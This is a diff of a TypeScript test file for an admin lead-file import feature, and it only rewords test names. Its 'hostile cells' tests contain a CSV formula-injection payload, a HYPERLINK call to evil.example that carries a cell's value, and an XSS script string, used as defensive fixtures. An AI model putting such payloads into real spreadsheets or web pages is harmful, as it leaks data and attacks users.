@@ -1,4 +1,4 @@
-/** What files may be, and what is said of those that cannot be taken. */
+/** Which files are accepted, and what is said about the others. */
 import { gzipSync } from 'node:zlib'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import { LEAD_FILE_PART_BYTES } from '#contract/admin/lead-files.ts'
@@ -82,7 +82,7 @@ describe('a file', () => {
     expect(await files.partitions()).not.toContain(checked.id)
   })
 
-  test('waits for all of its parts, and takes each of them again', async () => {
+  test('waits for all of its parts, and accepts each of them again', async () => {
     const bytes = Buffer.from(
       leadFile(
         files,
@@ -103,7 +103,7 @@ describe('a file', () => {
     expect((await files.check(importId, opened.body.mapping)).preview.newLeads).toBe(40_000)
   })
 
-  test('comes in parts that are not larger than they may be', async () => {
+  test('is refused in parts that are too large', async () => {
     const importId = await files.announce(10 * 2 ** 20)
     const tooLarge = await files.sendPart(importId, 0, Buffer.alloc(10 * 2 ** 20, 'a,b,c\n'))
 
@@ -128,7 +128,7 @@ describe('a mapping', () => {
     })
   })
 
-  test('is remembered for its source, as far as the columns are there', async () => {
+  test('is saved for its source, for the columns that exist', async () => {
     const file = leadFile(files, [{ address: '1 Remembered St' }]).replace('Address,', 'Where it is,')
     const importId = await files.send(file, 'Remembered Records')
     const first = await files.open(importId)
@@ -143,7 +143,7 @@ describe('a mapping', () => {
     expect((await files.admin.call('GET', '/api/admin/lead-sources')).body).toContain('Remembered Records')
   })
 
-  test('takes up a column that the files of its source never had, and leaves out what was left out', async () => {
+  test('picks up a column that the source’s files never had, and keeps leaving out what was left out', async () => {
     const text = leadFile(files, [{ address: '1 Grown St' }])
       .replaceAll('\n', ',x\n')
       .replace('Phone,x', 'Phone,Email')
@@ -174,7 +174,7 @@ describe('a mapping', () => {
 })
 
 describe('hostile cells', () => {
-  test('are told in a report that no spreadsheet calculates, and nowhere else', async () => {
+  test('appear in a report that no spreadsheet evaluates, and nowhere else', async () => {
     const formula = '=HYPERLINK(""http://evil.example/?""&A1,""x"")'
     const checked = await files.bring(
       `${leadFile(files, [{ address: '1 Hostile St' }])}"${formula}",Austin,78701,48453,vacant,2099-01-01,@evil,\n+1,2\n`,
@@ -190,7 +190,7 @@ describe('hostile cells', () => {
     expect(report.headers['content-disposition']).toMatch(/^attachment; filename="refused-rows-lim_\w+\.csv"$/)
   })
 
-  test('are kept as they are where they are harmless, and shown so', async () => {
+  test('are kept and shown as they are if they are harmless', async () => {
     const owner = '<script>alert(1)</script> \\N {a,b} "x"'
     const checked = await files.bring(leadFile(files, [{ address: '2 Hostile St', owner }]), {
       source: 'O’Hare, "Best" \\ Records',
@@ -209,7 +209,7 @@ describe('hostile cells', () => {
   })
 })
 
-describe('who is no administrator', () => {
+describe('anyone but an administrator', () => {
   test('gets nothing of imports', async () => {
     const { id, mapping } = await files.bring(leadFile(files, [{ address: '1 Secret St' }]))
     const rep = await aRep(store)
@@ -242,7 +242,7 @@ describe('who is no administrator', () => {
     expect((await files.read(id)).state).toBe('ready')
   })
 
-  test('cannot look at rows unseen: each look of an administrator is written down', async () => {
+  test('cannot look at rows unseen: each look of an administrator is recorded', async () => {
     const checked = await files.bring(leadFile(files, [{ address: '1 Watched St' }]), { source: 'Watched' })
     await files.admin.call('POST', `/api/admin/lead-imports/${checked.id}/preview`)
     await files.admin.call('GET', `/api/admin/lead-imports/${checked.id}/refused.csv`)
